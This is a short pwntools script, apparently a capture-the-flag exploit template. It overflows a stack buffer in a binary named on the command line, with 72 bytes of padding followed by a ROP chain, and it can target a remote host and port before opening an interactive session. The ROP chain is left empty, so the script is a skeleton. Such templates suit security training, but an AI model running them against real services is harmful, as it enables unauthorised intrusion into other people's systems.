import sys

from pwn import ELF, ROP, context, process, remote

context.binary = elf = ELF(sys.argv[1])
io = remote(sys.argv[2], int(sys.argv[3])) if len(sys.argv) > 3 else process(elf.path)
rop = ROP(elf)
payload = b"A" * 72 + rop.chain()
io.sendlineafter(b"> ", payload)
io.interactive()
